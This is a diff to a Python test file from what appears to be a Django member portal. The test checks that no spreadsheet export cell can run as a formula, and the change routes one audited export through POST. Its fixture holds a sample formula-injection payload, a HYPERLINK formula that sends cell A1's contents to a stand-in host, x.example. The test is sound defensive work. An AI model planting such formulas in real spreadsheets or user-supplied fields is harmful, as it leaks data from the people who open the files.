@@ -22,6 +22,7 @@ from unionportal.lib.xlsx import FORMULA_STARTS
 HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
 MONTH = {"code": "DT", "month": "2021-03"}
 RANGE = {"start": "2021-01", "end": "2021-03"}
+POSTED = {"members:member_list_export"}  # an export that writes an audit entry is a POST
 EXPORTS = {  # url name → URL arguments, query, whether a name begins a cell there (else: only inside one)
     "members:month_template": (MONTH, {}, True),
     "members:month_export": (MONTH, {}, True),
@@ -72,7 +73,8 @@ def _cells(content: bytes):
 @pytest.mark.parametrize("name", sorted(EXPORTS))
 def test_no_cell_of_any_export_can_run_as_a_formula(hostile, client_for, provincial_staff, name):
     kwargs, query, names_begin_cells = EXPORTS[name]
-    response = client_for(provincial_staff).get(reverse(name, kwargs=kwargs), query)
+    client = client_for(provincial_staff)
+    response = (client.post if name in POSTED else client.get)(reverse(name, kwargs=kwargs), query)
     assert response.status_code == 200
     escaped, unsafe = 0, []
     for title, cell in _cells(response.content):
